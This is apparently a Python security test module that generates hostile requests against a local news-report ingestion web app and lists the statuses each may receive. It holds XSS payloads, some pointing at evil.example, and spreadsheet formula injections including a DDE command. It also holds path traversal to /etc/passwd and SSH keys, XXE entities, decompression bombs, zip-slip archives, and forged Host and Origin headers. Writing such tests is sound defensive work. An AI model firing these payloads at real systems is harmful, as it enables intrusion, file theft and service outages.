"""Hostile inputs for a desk, made here: each is one request, with its kind and the statuses that it may be answered with.

The reports are invented. Every script that ran would call ``alert`` and set ``window.ran``.
"""

import gzip
import hashlib
import io
import json
import os
import random
import runpy
import unicodedata
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace
from typing import Any

UNIT = Path(__file__).parents[1] / "unit"
WARC = SimpleNamespace(**runpy.run_path(str(UNIT / "read" / "test_warc.py")))
DOCX = SimpleNamespace(**runpy.run_path(str(UNIT / "read" / "test_docx.py")))
PDF = SimpleNamespace(**runpy.run_path(str(UNIT / "read" / "test_pdf.py")))
FEWER = not os.environ.get("VARIORUM_TORTURE")
"""Every second script goes into every field; in ``make torture`` all do."""
CANARY = "CANARY-7d41-never-on-a-page"
"""What stands in a file beside the workspace, which no answer may ever hold."""
RUN = "alert(1),window.ran=1"
OPENING = "The ferry Amsel burned off Port Ellery on Tuesday, officials said, and many saw it from the pier."
SCRIPTS = tuple(
    one.replace("RUN", RUN)
    for one in (
        "<script>RUN</script>", "</script><script>RUN</script>", "<img src=x onerror=RUN>", "<svg onload=RUN>", "<svg/onload=RUN//",
        '"><script>RUN</script>', "' onmouseover='RUN", '" autofocus onfocus=RUN x="', "javascript:RUN", "JaVaScRiPt:RUN",
        "java\tscript:RUN", "data:text/html,<script>RUN</script>", "{{7*7}}<script>RUN</script>", "{% raw %}<script>RUN</script>",
        "<iframe srcdoc='<script>parent.RUN</script>'>", "<object data=javascript:RUN>", "<embed src=javascript:RUN>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x';</style>",
        "<form action=//evil.example><input name=x autofocus>", "<math><mtext></mtext><script>RUN</script></math>",
        '<noscript><p title="</noscript><img src=x onerror=RUN>">', '<!--<img src="--><img src=x onerror=RUN//">',
        "<details open ontoggle=RUN>", "<video><source onerror=RUN>", '<a href="javascript:RUN">x</a>', "<body onload=RUN>",
        "<template><script>RUN</script></template>", "\uff1cscript\uff1eRUN\uff1c/script\uff1e", "<scr\x00ipt>RUN</scr\x00ipt>",
        "]]><script>RUN</script>", "--><script>RUN</script>", "</title><script>RUN</script>", "</textarea><script>RUN</script>",
        "</style><script>RUN</script>", "<svg><animate onbegin=RUN attributeName=x dur=1s>",
        '<svg><a xlink:href="javascript:RUN"><text>x</text></a></svg>', "&lt;script&gt;RUN&lt;/script&gt;", "\\u003cscript\\u003eRUN",
        "<input onfocus=RUN autofocus>", "<select autofocus onfocus=RUN>", "<marquee onstart=RUN>", "</datalist><script>RUN</script>",
    )
)  # fmt: skip
FORMULAS = tuple(
    f"{sign}{rest}"
    for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠")
    for rest in ('HYPERLINK("http://evil.example","x")', "cmd|' /C calc'!A0", "1+1")
)
HIDDEN = tuple(
    chr(code)
    for code in (*range(0x20), *range(0x7F, 0xA0), 0xAD, 0x34F, *range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2070),
                 0xFEFF, *range(0xFFF9, 0xFFFC), 0xE0001, 0xE0041, 0x061C, 0x180E)
    if unicodedata.category(chr(code)) in {"Cc", "Cf", "Zl", "Zp"} and chr(code) not in "\t\n\r"
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "..\\..\\canary.txt", "%2e%2e/%2e%2e/canary.txt", "....//....//canary.txt",
    "/etc/passwd", "C:\\Windows\\win.ini", "file:///etc/passwd", "..%c0%af..%c0%afcanary.txt", "a\x00.css", "canary.txt%00.css",
    "desk.css/../../canary.txt", "~/.ssh/id_rsa", "\\\\evil.example\\share", "nul", "con.txt", "." * 300, "a" * 3000,
)  # fmt: skip


@dataclass(frozen=True)
class Input:
    """One hostile request. ``may`` are the statuses it may be answered with; ``anywhere`` false: nothing may change by it."""

    kind: str
    method: str
    path: str
    may: frozenset[int]
    changes: bool = True
    given: dict[str, Any] = field(default_factory=dict)

    @property
    def key(self) -> str:
        """What tells it from all others."""
        return hashlib.sha256(
            repr((self.method, self.path, self.given)).encode("utf-8", "surrogatepass")
        ).hexdigest()


def all_inputs(names: dict[str, str]) -> Iterator[Input]:
    """All hostile inputs.

    Args:
        names: ids of a story, a finding, a report and a judgement that are there.
    """
    yield from _fields(names)
    yield from _hosts()
    yield from _origins(names)
    yield from _uploads()
    yield from _names(names)
    yield from _cells()
    yield from _signs()


DONE = frozenset({200, 303})
WRONG = frozenset({400, 404, 405, 409, 413, 415, 422})


def _fields(names: dict[str, str]) -> Iterator[Input]:
    """A script in every field of every form, every parameter and every word of the API."""
    text = f"{OPENING}\n\ntoll: 2"
    for n, script in enumerate(SCRIPTS):
        if FEWER and n % 2:
            continue
        for name in ("story", "headline", "outlet", "byline", "url", "published", "by"):
            own = {"text": f"{text}{n}{name} dead", "story": f"Fields {n // 3}", name: script}
            yield _post("field", "/add", data=own)
        yield _post(
            "field",
            "/add",
            data={"text": f"{OPENING}\n\n{script}\n\ntoll: {n} {script}", "story": f"Texts {n // 12}"},
        )
        for name in ("how", "by"):
            yield _post(
                "field",
                "/judge",
                data={"finding": names["finding"], "act": "note", "how": f"note {n}", name: script},
            )
        yield _post("field", "/judge", data={"finding": script, "act": "note", "how": "x"})
        yield _post("field", "/judge", data={"finding": names["finding"], "act": script, "how": "x"})
        yield _post("field", "/change", data={"story": names["story"], "act": "note", "how": script})
        yield _post("field", "/change", data={"story": names["story"], "act": "merge", "other": script})
        yield _post("field", "/forget", data={"target": script, "confirm": script, "typed": "forget"})
        yield _post("field", "/undo", data={"number": script})
        yield _post("field", "/export", data={"story": script})
        for path, name in (
            ("/search", "q"),
            ("/source", "name"),
            ("/add", "story"),
            ("/forget", "target"),
            ("/", "token"),
            ("/sources", "page"),
        ):
            yield Input("field", "GET", path, DONE | WRONG, changes=False, given={"params": {name: script}})
        yield Input(
            "field",
            "POST",
            "/api/reports",
            frozenset({201}) | WRONG,
            given={"json": {"text": f"{OPENING} {n} {script}", "name": script, "story": f"Api {n // 12}"}},
        )
        yield Input(
            "field", "GET", "/api/search", DONE | WRONG, changes=False, given={"params": {"q": script}}
        )


def _post(kind: str, path: str, *, changes: bool = True, **given: Any) -> Input:
    return Input(kind, "POST", path, DONE | WRONG, changes, given)


def _hosts() -> Iterator[Input]:
    """Names that were made to point here, and headers that are none."""
    hosts = (
        "evil.example", "evil.example:8123", "127.0.0.1.evil.example:8123", "localhost.evil.example:8123", "127.0.0.1:80", "localhost", "[::1]",
        "127.0.0.1:8123@evil.example", "evil.example#127.0.0.1:8123", "127.0.0.1:8123.evil.example", "0.0.0.0:8123", "2130706433:8123",
        "127.1:8123", "0x7f.1:8123", "[::ffff:127.0.0.1]:8123", "192.168.1.4:8123", "", " ", "127.0.0.1:8123 ", "127.0.0.1:08123x", "localhost:8123:8123",
        "127.0.0.1\t:8123", "[::1", "::1:8123", "desk.local:8123", "127.0.0.1:-8123", "*", "null", "a" * 4000, "127.0.0.2:8123",
    )  # fmt: skip
    for host in hosts:
        for method, path in (("GET", "/"), ("GET", "/api/stories"), ("POST", "/verify")):
            own = host.strip() == "127.0.0.1:8123"
            yield Input(
                "host",
                method,
                path,
                frozenset({200, 421} if own else {421, 400}),
                changes=False,
                given={"headers": {"host": host}},
            )


def _origins(names: dict[str, str]) -> Iterator[Input]:
    """Requests that a page of another site made, with our cookie."""
    forged: tuple[dict[str, str], ...] = (
        {"origin": "http://evil.example"}, {"origin": "https://127.0.0.1:8123"}, {"origin": "http://127.0.0.1:8124"}, {"origin": "http://localhost:8123"},
        {"origin": "null"}, {"origin": "http://127.0.0.1:8123.evil.example"}, {"origin": "file://"}, {"origin": ""}, {"origin": "http://127.0.0.1:8123/"},
        {"sec-fetch-site": "cross-site"}, {"sec-fetch-site": "same-site"}, {"sec-fetch-site": "none"}, {"sec-fetch-site": "x"}, {},
    )  # fmt: skip
    forms: tuple[tuple[str, dict[str, str]], ...] = (
        ("/add", {"text": OPENING}), ("/judge", {"finding": names["finding"], "act": "dismissed"}), ("/undo", {"number": names["number"]}),
        ("/change", {"story": names["story"], "act": "note", "how": "x"}), ("/forget", {"target": "Amsel", "confirm": "x", "typed": "forget"}),
        ("/analyse", {}), ("/export", {"story": names["story"]}), ("/verify", {}),
    )  # fmt: skip
    for headers in forged:
        for path, data in forms:
            site = {"sec-fetch-site": "cross-site"} if headers.get("origin") == "null" else {}
            bare = {"origin": None, "sec-fetch-site": None, **headers, **site}
            yield Input(
                "origin", "POST", path, frozenset({403}), changes=False, given={"headers": bare, "data": data}
            )


def _file(kind: str, name: str, data: bytes) -> Input:
    return _post(
        kind, "/add", data={"story": f"Files {kind} {len(data) % 12}"}, files={"files": (name, data)}
    )


def _uploads() -> Iterator[Input]:
    """Files: scripts in every format, entities, bombs, traversal in archives, and all kinds of damage."""
    for n, script in enumerate(SCRIPTS):
        for name, data in _told(n, script):
            yield _file("script in a file", name, data)
    yield from (_file("entities", name, data) for name, data in _entities())
    yield from (_file("bomb", name, data) for name, data in _bombs())
    yield from (_file("traversal in an archive", name, data) for name, data in _escapes())
    yield from (_file("damage", name, data) for name, data in _damaged())


def _told(n: int, script: str) -> Iterator[tuple[str, bytes]]:
    """A report with a script in it, in some of the formats."""
    told = f"{OPENING} Version {n}. {script}"
    page = f"<!doctype html><html><head><title>{script}</title><meta property='og:site_name' content='{script}'></head><body onload={RUN}><article><h1>{script}</h1><p>{told}</p></article></body></html>"
    yield f"{n}.html", page.encode("utf-8", "replace")
    if n % 3 == 0:
        yield (
            f"{n}.md",
            f"---\nheadline: {json.dumps(script)}\noutlet: {json.dumps(script)}\n---\n# {script}\n\n{told}\n\n[x](javascript:{RUN})".encode(
                "utf-8", "replace"
            ),
        )
        yield (
            f"{n}.jsonl",
            json.dumps(
                {"text": told, "headline": script, "outlet": script, "url": f"javascript:{RUN}", "id": script}
            ).encode(),
        )
        yield (
            f"{n}.eml",
            f'From: "{script}" <a@b.example>\nSubject: {" ".join(script.split())}\nContent-Type: text/html\n\n{page}'.encode(
                "utf-8", "replace"
            ),
        )
        clean = script.replace("\x00", "").replace("&", "&amp;").replace("<", "&lt;")
        yield (
            f"{n}.xml",
            f"<rss version='2.0'><channel><title>{clean}</title><item><title>{clean}</title><link>javascript:{RUN}</link><description>{OPENING} {n} {clean}</description></item></channel></rss>".encode(),
        )
        yield (
            f"{n}.docx",
            DOCX.packed(
                DOCX.HEAD + DOCX.paragraph(DOCX.run(f"{OPENING} {n} {clean}")) + "</w:body></w:document>"
            ),
        )
        yield f"{n}.warc", WARC.record(WARC.OK + b"\r\n" + page.encode("utf-8", "replace"))


def _entities() -> Iterator[tuple[str, bytes]]:
    """Entities: of a file beside the workspace, of an address, and such as grow without end."""
    grows = "".join(f'<!ENTITY e{k} "{f"&e{k - 1};" * 10}">' for k in range(1, 10))
    heads = {
        "file": '<!ENTITY x SYSTEM "file:///etc/passwd">', "beside": '<!ENTITY x SYSTEM "../canary.txt">', "web": '<!ENTITY x SYSTEM "http://evil.example/x">',
        "parameter": '<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;', "grows": f'<!ENTITY e0 "laugh">{grows}<!ENTITY x "&e9;">',
        "long": f'<!ENTITY x "{"a" * 50_000}">', "round": '<!ENTITY x "&y;"><!ENTITY y "&x;">', "public": '<!ENTITY x PUBLIC "a" "file:///etc/hostname">',
    }  # fmt: skip
    for name, head in heads.items():
        used = "&x;" * (5000 if name == "long" else 1)
        rss = f"<rss version='2.0'><channel><title>t</title><item><title>t {used}</title><description>{OPENING} {name} {used}</description></item></channel></rss>"
        atom = f"<feed xmlns='http://www.w3.org/2005/Atom'><entry><title>{used}</title><content>{OPENING} {name} {used}</content></entry></feed>"
        word = (
            DOCX.HEAD.partition("?>\n")[2]
            + DOCX.paragraph(DOCX.run(f"{OPENING} {name} {used}"))
            + "</w:body></w:document>"
        )
        page = f"<html xmlns='http://www.w3.org/1999/xhtml'><body><article><p>{OPENING} {name} {used}</p></article></body></html>"
        opml = f"<opml version='2.0'><body><outline xmlUrl='{used}'/></body></opml>"
        for root, ending, body in (
            ("rss", "xml", rss),
            ("feed", "atom", atom),
            ("html", "html", page),
            ("opml", "opml", opml),
            ("w:document", "docx", word),
        ):
            whole = f"<?xml version='1.0'?><!DOCTYPE {root} [{head}]>{body}"
            yield f"{name}.{ending}", DOCX.packed(whole) if ending == "docx" else whole.encode()
        xinclude = f"<?xml version='1.0'?><rss xmlns:xi='http://www.w3.org/2001/XInclude'><channel><item><description><xi:include href='file:///etc/passwd' parse='text'/>{name}</description></item></channel></rss>"
        yield f"{name}-include.xml", xinclude.encode()


def _bombs() -> Iterator[tuple[str, bytes]]:
    """Files that unpack to far more than they are."""
    zeros = gzip.compress(b"\0" * (96 << 20))
    lines = gzip.compress(b"The ferry burned. " * (6 << 20))
    yield "zeros.txt.gz", zeros
    yield "lines.txt.gz", lines
    yield "twice.txt.gz", gzip.compress(zeros)
    yield "zeros.jsonl.gz", zeros
    yield "zeros.warc.gz", zeros
    yield "page.html.gz", gzip.compress(b"<html><body>" + b"<div>" * (2 << 20))
    for name, inner in (
        ("word/document.xml", b"\0" * (96 << 20)),
        ("word/document.xml", DOCX.HEAD.encode() + b"<w:p>" * 400_000),
    ):
        yield f"{len(inner)}.docx", _zip([(name, inner)])
    for name in ("archive/a.warc", "archive/a.warc.gz", "a.warc"):
        yield f"{name[8:] or 'x'}.wacz", _zip([(name, b"\0" * (96 << 20)), ("datapackage.json", b"{}")])
    yield "many.wacz", _zip([(f"archive/{n}.warc", b"WARC/1.0\r\n") for n in range(3000)])
    yield (
        "nested.wacz",
        _zip([("archive/a.warc.gz", zeros), ("archive/b.wacz", _zip([("archive/c.warc", b"x" * 9999)]))]),
    )
    yield "deep.html", (b"<div>" * 60_000) + OPENING.encode() + b"</div>" * 60_000
    yield "deep.xml", b"<rss>" + b"<a>" * 50_000 + b"</rss>"
    yield "deep.jsonl", b'{"text": ' + b"[" * 60_000 + b"]" * 60_000 + b"}"
    yield "long.txt", b"word " * 400_000
    yield "line.txt", b"a" * 3_000_000


def _zip(files: list[tuple[str, bytes]], *, link: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in files:
            about = zipfile.ZipInfo(name)
            about.compress_type = zipfile.ZIP_DEFLATED
            about.external_attr = (0o120777 if link else 0o644) << 16
            packed.writestr(about, data)
    return out.getvalue()


def _escapes() -> Iterator[tuple[str, bytes]]:
    """Archives whose names lead out of them, and links in them."""
    page = WARC.answer(1)
    for n, path in enumerate(PATHS):
        yield (
            f"{n}.wacz",
            _zip(
                [(f"archive/{path}.warc".replace("\x00", ""), page), (path.replace("\x00", "") or "x", b"x")]
            ),
        )
        yield (
            f"{n}.docx",
            _zip(
                [
                    (path.replace("\x00", "") or "x", b"<x/>"),
                    (
                        "word/document.xml",
                        DOCX.HEAD.encode()
                        + DOCX.paragraph(DOCX.run(OPENING)).encode()
                        + b"</w:body></w:document>",
                    ),
                ]
            ),
        )
    for target in ("/etc/passwd", "../canary.txt", "../../canary.txt"):
        yield f"link{len(target)}.wacz", _zip([("archive/a.warc", target.encode())], link=True)


def _damaged() -> Iterator[tuple[str, bytes]]:
    """Good files with bytes changed, cut off, doubled or put in; the same every time."""
    chance = random.Random(7)
    warc = WARC.answer(1) + WARC.answer(2)
    good = {
        "warc": warc, "wacz": _zip([("archive/a.warc", warc), ("datapackage.json", b"{}")]),
        "docx": DOCX.packed(DOCX.HEAD + DOCX.paragraph(DOCX.run(OPENING)) + "</w:body></w:document>"), "pdf": PDF.document(PDF.LINES),
        "eml": f"From: a@b.example\nSubject: Ferry\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: text/plain\n\n{OPENING}\n--x--\n".encode(),
        "warc.gz": gzip.compress(warc), "xml": f"<rss version='2.0'><channel><item><description>{OPENING}</description></item></channel></rss>".encode(),
        "jsonl": json.dumps({"text": OPENING}).encode() * 3, "html": WARC.page(3), "parquet": b"PAR1" + b"\0" * 64 + b"PAR1",
    }  # fmt: skip
    for ending, data in good.items():
        yield f"empty.{ending}", b""
        for n in range(12):
            yield f"{n}.{ending}", _hurt(data, n, chance)


def _hurt(data: bytes, n: int, chance: random.Random) -> bytes:
    out = bytearray(data)
    at = chance.randrange(len(out))
    if n % 4 == 0:
        for _ in range(1 + n):
            out[chance.randrange(len(out))] = chance.randrange(256)
    elif n % 4 == 1:
        del out[at:]
    elif n % 4 == 2:
        out[at:at] = bytes(chance.randrange(256) for _ in range(40))
    else:
        out[at:at] = out[: at // 2] * 2
    return bytes(out)


def _names(names: dict[str, str]) -> Iterator[Input]:
    """Names that lead elsewhere: of files, in addresses, in the API."""
    for n, path in enumerate(PATHS):
        clean = path.replace("\x00", "")
        yield _post(
            "traversal",
            "/add",
            data={"story": f"Names {n // 12}"},
            files={"files": (clean or "x", f"{OPENING} Name {n}.".encode())},
        )
        for place in ("/static/", "/story/", "/finding/", "/report/", "/api/stories/", "/api/reports/"):
            address = place + clean.replace("\\", "%5C").replace("\x00", "%00")
            yield Input("traversal", "GET", address, DONE | WRONG, changes=False)
        yield Input(
            "traversal",
            "POST",
            "/api/reports",
            frozenset({201}) | WRONG,
            given={"json": {"text": f"{OPENING} Name {n} again.", "name": path, "story": path}},
        )
    yield Input(
        "traversal", "GET", f"/report/{names['report']}?at=0-999999999999999999", DONE | WRONG, changes=False
    )


def _cells() -> Iterator[Input]:
    """Text that a spreadsheet would take for a formula."""
    for n, formula in enumerate(FORMULAS):
        text = f"{OPENING}\n\ntoll: {n}\n\n{formula} said it.\n\nquote: {formula}"
        yield _post(
            "formula",
            "/add",
            data={
                "text": text,
                "story": f"Cells {n // 12}",
                "outlet": formula,
                "headline": formula,
                "byline": formula,
            },
        )


def _signs() -> Iterator[Input]:
    """Signs that turn a line round, hide, or move a cursor, in text, headline, outlet and note."""
    for n, sign in enumerate(HIDDEN):
        hidden = f"no{sign}thing{sign}"
        yield _post(
            "hidden sign",
            "/add",
            data={
                "text": f"{OPENING} It was U+{ord(sign):04X}: {hidden}.\n\ntoll: {ord(sign)}",
                "story": f"Signs {n // 12}",
                "outlet": hidden,
                "headline": hidden,
            },
        )
